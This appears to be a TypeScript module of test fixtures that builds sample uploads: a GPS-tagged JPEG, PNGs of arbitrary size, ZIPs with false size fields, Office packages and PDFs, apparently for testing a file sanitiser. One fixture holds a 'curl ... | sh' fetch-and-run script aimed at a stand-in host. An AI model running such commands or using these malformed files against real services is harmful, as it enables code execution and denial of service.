import { createDeflate, crc32, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

export const aScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://example.test/x | sh\n');

/** A photograph with the place it was taken at, on its side, with a comment for people to find. */
export function aPhotograph(): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
  return sharp({ create: { width: 320, height: 200, channels: 3, background: '#888', noise } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'Telephone', Orientation: '6', ImageDescription: 'SECRET-PLACE' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '28/1 27/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '117/1 58/1 0/1',
      },
    })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>SECRET-XMP</rdf:Description></rdf:RDF></x:xmpmeta>',
    )
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A whole and valid image of so many pixels; its rows are packed one by one and never held together. */
export async function aPng(width: number, height: number): Promise<Buffer> {
  const packing = createDeflate();
  const packed: Buffer[] = [];
  packing.on('data', (chunk: Buffer) => packed.push(chunk));
  const row = Buffer.alloc(1 + width);
  for (let line = 0; line < height; line += 1) {
    if (!packing.write(row)) await new Promise((resolve) => packing.once('drain', resolve));
  }
  await new Promise<void>((resolve) => packing.end(resolve));
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  const chunks = [
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.concat(packed)),
    pngChunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([signature, ...chunks]);
}

export interface ZipEntry {
  readonly name: string;
  readonly content: Buffer | string;
  /** What the archive says of its size, if that is not true. */
  readonly declaredBytes?: number;
  readonly isEncrypted?: boolean;
}

/** An archive as any program writes one, or as no program would. */
export function aZip(entries: readonly ZipEntry[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const content = Buffer.from(entry.content);
    const name = Buffer.from(entry.name);
    const packed = deflateRawSync(content, { level: 9 });
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(entry.isEncrypted ? 1 : 0, 2);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(content), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(entry.declaredBytes ?? content.length, 18);
    fields.writeUInt16LE(name.length, 22);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    const header = Buffer.concat([Buffer.from('504b0304', 'hex'), fields, name, packed]);
    local.push(header);
    central.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), fields, tail, name]));
    offset += header.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('504b0506', 'hex');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

const contentTypes = (mainType: string): ZipEntry => ({
  name: '[Content_Types].xml',
  content: `<Types><Override PartName="/main.xml" ContentType="${mainType}"/></Types>`,
});

export const aDocx = (...more: readonly ZipEntry[]): Buffer =>
  aZip([contentTypes(WORD_MAIN), { name: 'word/document.xml', content: '<w:document/>' }, ...more]);

export const anXlsx = (...more: readonly ZipEntry[]): Buffer =>
  aZip([contentTypes(SHEET_MAIN), { name: 'xl/workbook.xml', content: '<workbook/>' }, ...more]);

export const aDocxOfType = (mainType: string): Buffer => aZip([contentTypes(mainType)]);

/** A document of one page, with whatever else is to stand in it. */
export const aPdf = (more: Buffer | string = ''): Buffer =>
  Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n',
    ),
    Buffer.from(more),
    Buffer.from('\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
  ]);

/** Objects as programs pack them since PDF 1.5. */
export const objectStream = (packed: Buffer, dictionary = '/Filter /FlateDecode'): Buffer =>
  Buffer.concat([
    Buffer.from(
      `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\r\n`,
    ),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
